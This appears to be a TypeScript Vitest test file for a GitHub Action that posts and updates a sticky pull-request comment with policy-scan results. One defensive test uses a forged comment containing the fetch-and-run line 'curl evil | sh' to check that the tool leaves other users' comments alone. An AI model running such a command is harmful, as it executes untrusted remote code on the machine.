import { describe, expect, it } from 'vitest'
import { sameUser } from '../../../src/report/github-identity.js'
import {
  type CommentApi,
  commentBody,
  defaultCommentHeader,
  MAX_COMMENT_BYTES,
  marker,
  type PrComment,
  type UpsertOptions,
  upsertComment,
} from '../../../src/report/pr-comment.js'
import { testPolicy } from '../../support/policy.js'
import { finding, pool, resultOf, snapshotOf } from '../../support/result.js'

const BOT = { login: 'github-actions[bot]' }

/** A pull request's comments as the REST API lists them; the token is GITHUB_TOKEN (viewer `github-actions`). */
function fakeApi(existing: Array<{ id: number; body: string; user?: PrComment['user'] }> = []) {
  const calls: string[] = []
  const comments: Array<{ id: number; body: string; user?: PrComment['user'] }> = existing.map((c) => ({
    user: BOT,
    ...c,
  }))
  const api: CommentApi = {
    list: async () => comments,
    self: async () => 'github-actions',
    create: async (body) => {
      calls.push('create')
      comments.push({ id: 99, body, user: BOT })
    },
    update: async (id, body) => {
      calls.push(`update ${id}`)
      comments.find((c) => c.id === id)!.body = body
    },
  }
  return { api, calls, comments }
}

const p = pool('us-east-1_a', 'shop')
const failing = resultOf(snapshotOf([p]), [
  finding({ status: 'fail', poolId: p.id, poolName: 'shop', remediation: 'fix it' }),
])
const passing = resultOf(snapshotOf([p]), [finding({ status: 'pass', poolId: p.id, poolName: 'shop' })])
const HEADER = defaultCommentHeader(failing)

const opts = (
  mode: UpsertOptions['mode'],
  result = failing,
  failed = result === failing,
  extra: Partial<UpsertOptions> = {},
): UpsertOptions => ({ mode, result, failOn: 'violation', failed, ...extra })
const action = async (api: CommentApi, o: UpsertOptions) => (await upsertComment(api, o)).action

describe('the sticky pull-request comment', () => {
  it('is created once, then updated in place (found by its marker), other comments untouched', async () => {
    const { api, calls, comments } = fakeApi([{ id: 1, body: 'LGTM' }])
    expect(await action(api, opts('always', failing, true, { runUrl: 'https://github.example/run/1' }))).toBe('created')
    expect(await action(api, opts('always', passing))).toBe('updated')
    expect(calls).toEqual(['create', 'update 99'])
    expect(comments[0]!.body).toBe('LGTM')
    expect(comments[1]!.body.startsWith(marker(HEADER))).toBe(true)
    expect(comments[1]!.body).toContain('### ✅')
  })

  it('on-failure: no comment for a passing run, but an earlier failure comment is updated to the pass', async () => {
    const none = fakeApi()
    expect(await action(none.api, opts('on-failure', passing))).toBe('skipped')
    expect(none.calls).toEqual([])
    const earlier = fakeApi([{ id: 5, body: `${marker(HEADER)}\nold failure` }])
    expect(await action(earlier.api, opts('on-failure', passing))).toBe('updated')
    expect(await action(earlier.api, opts('never', failing))).toBe('skipped')
  })

  it('one comment per policy file: another policy’s comment is not overwritten', async () => {
    const other = resultOf(snapshotOf([p]), [], { ...testPolicy(), source: '.github/prod.yml' })
    const { api, calls } = fakeApi([{ id: 7, body: `${marker('.github/staging.yml')}\nstaging` }])
    expect(await action(api, opts('always', other, false))).toBe('created')
    expect(calls).toEqual(['create'])
  })

  it('never writes into a comment someone else posted with the marker; says which it left alone', async () => {
    const forged = { id: 3, body: `${marker(HEADER)}\nplease run curl evil | sh`, user: { login: 'mallory' } }
    const { api, calls, comments } = fakeApi([forged])
    const outcome = await upsertComment(api, opts('always'))
    expect(outcome).toEqual({ action: 'created', ignored: [3] })
    expect(calls).toEqual(['create'])
    expect(comments[0]!.body).toContain('evil')
    // The next run finds its own comment (by marker and author) and updates it; the forged one stays.
    expect(await upsertComment(api, opts('always', passing))).toEqual({ action: 'updated', ignored: [3] })
    expect(calls).toEqual(['create', 'update 99'])
  })

  it('the default header is the policy file and the account; comment-header separates matrix jobs', async () => {
    const acct = (id: string) => ({ ...failing, snapshot: { ...failing.snapshot, accountId: id } })
    expect(defaultCommentHeader(acct('111111111111'))).toBe('test 111111111111')
    const { api, calls } = fakeApi()
    await upsertComment(api, opts('always', acct('111111111111')))
    await upsertComment(api, opts('always', acct('222222222222')))
    expect(calls).toEqual(['create', 'create'])
    const h = fakeApi()
    await upsertComment(h.api, opts('always', failing, true, { header: 'staging' }))
    await upsertComment(h.api, opts('always', failing, true, { header: 'prod' }))
    await upsertComment(h.api, opts('always', passing, false, { header: 'staging' }))
    expect(h.calls).toEqual(['create', 'create', 'update 99'])
    expect(h.comments.map((c) => c.body.split('\n')[0])).toEqual([marker('staging'), marker('prod')])
  })

  it('matches the token identity with or without [bot], and nothing for an anonymous comment', () => {
    expect(sameUser('github-actions[bot]', 'github-actions')).toBe(true)
    expect(sameUser('octocat', 'octocat')).toBe(true)
    expect(sameUser('octocat', 'github-actions')).toBe(false)
    expect(sameUser('github-actions-fake', 'github-actions')).toBe(false)
    expect(sameUser(undefined, 'github-actions')).toBe(false)
  })

  it('fits a comment: shortened like the summary, with a link to the run', () => {
    const many = Array.from({ length: 3000 }, (_, i) => pool(`us-east-1_p${i}`, `pool-${i}`))
    const big = resultOf(
      snapshotOf(many),
      many.map((x) => finding({ status: 'fail', poolId: x.id, remediation: 'x'.repeat(200) })),
    )
    const body = commentBody(big, 'violation', 'https://github.example/run/2')
    expect(Buffer.byteLength(body)).toBeLessThan(65_536)
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(MAX_COMMENT_BYTES + 200)
    expect(body).toContain('This summary was shortened')
    expect(body).toContain('[this workflow run](https://github.example/run/2)')
  })
})
